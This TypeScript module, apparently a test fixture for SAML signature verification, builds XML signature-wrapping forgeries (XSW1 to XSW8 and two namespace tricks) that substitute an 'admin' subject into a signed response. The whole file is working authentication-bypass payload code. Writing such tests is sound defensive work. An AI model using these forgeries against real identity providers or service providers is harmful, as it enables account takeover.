/** What somebody without the provider's key makes of a response that was signed for another: signature wrapping, XSW 1 to 8. */

const SAML = 'urn:oasis:names:tc:SAML:2.0'
export const ADMIN = 'admin'

const assertionIn = (xml: string) => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
const signatureIn = (xml: string) => /<Signature[\s\S]*?<\/Signature>/.exec(xml)?.[0] ?? ''
const unsigned = (xml: string) => xml.replace(signatureIn(xml), '')
const before = (xml: string, end: string, put: string) => xml.slice(0, xml.lastIndexOf(end)) + put + xml.slice(xml.lastIndexOf(end))

/** The same about somebody else, under an ID of its own. */
function forged(xml: string, id = '_forged'): string {
  return unsigned(xml)
    .replace(/ ID="[^"]*"/, ` ID="${id}"`)
    .replace('>N-1<', `>${ADMIN}<`)
}

/** The signature with something more in it. */
function holding(signature: string, inside: string): string {
  return signature.replace('</Signature>', `<Object>${inside}</Object></Signature>`)
}

function wrapped(xml: string, put: (evil: string, original: string, signature: string) => string): string {
  const original = assertionIn(xml)
  return xml.replace(original, () => put(forged(original), original, signatureIn(original)))
}

const AFTER_ISSUER = /(<saml:Issuer>[^<]*<\/saml:Issuer>)/

/** By their usual numbers: the first two are for signed responses, the others for signed assertions. */
export const attacks: Readonly<Record<string, { signs: 'response' | 'assertion'; tamper: (xml: string) => string }>> = {
  'XSW1, the signed response in the signature of another': {
    signs: 'response',
    tamper: (xml) => forged(xml).replace(AFTER_ISSUER, `$1${holding(signatureIn(xml), unsigned(xml))}`),
  },
  'XSW2, the signed response beside its signature in another': {
    signs: 'response',
    tamper: (xml) => forged(xml).replace(AFTER_ISSUER, `$1${unsigned(xml)}${signatureIn(xml)}`),
  },
  'XSW3, an assertion before the signed one': { signs: 'assertion', tamper: (xml) => wrapped(xml, (evil, original) => evil + original) },
  'XSW3, an assertion behind the signed one': { signs: 'assertion', tamper: (xml) => wrapped(xml, (evil, original) => original + evil) },
  'XSW4, the signed assertion in another': {
    signs: 'assertion',
    tamper: (xml) => wrapped(xml, (evil, original) => before(evil, '</saml:Assertion>', original)),
  },
  'XSW5, the signature in another, the signed assertion at the end': {
    signs: 'assertion',
    tamper: (xml) =>
      wrapped(xml, (evil, original, signature) => evil.replace(AFTER_ISSUER, `$1${signature}`) + original.replace(signature, '')),
  },
  'XSW6, the signed assertion in the signature of another': {
    signs: 'assertion',
    tamper: (xml) =>
      wrapped(xml, (evil, original, signature) => evil.replace(AFTER_ISSUER, `$1${holding(signature, original.replace(signature, ''))}`)),
  },
  'XSW7, an assertion of the same ID among extensions': {
    signs: 'assertion',
    tamper: (xml) =>
      wrapped(xml, (_evil, original) => {
        const id = / ID="([^"]*)"/.exec(original)?.[1]
        return `<samlp:Extensions>${forged(original, id)}</samlp:Extensions>${original}`
      }),
  },
  'XSW8, the signed assertion as an object of a signature, the other in its place': {
    signs: 'assertion',
    tamper: (xml) =>
      wrapped(xml, (evil, original, signature) => {
        const id = / ID="([^"]*)"/.exec(original)?.[1]
        return forged(evil, id).replace(AFTER_ISSUER, `$1${holding(signature, original.replace(signature, ''))}`)
      }),
  },
  'a response of a namespace of its own in the one that is read': {
    signs: 'assertion',
    tamper: (xml) => before(xml, '</samlp:Response>', `<x:Response xmlns:x="urn:x">${forged(assertionIn(xml))}</x:Response>`),
  },
  'an assertion of another namespace beside the signed one': {
    signs: 'assertion',
    tamper: (xml) =>
      wrapped(
        xml,
        (evil, original) => evil.replaceAll('saml:', 'x:').replace(`xmlns:saml="${SAML}:assertion"`, 'xmlns:x="urn:x"') + original,
      ),
  },
}
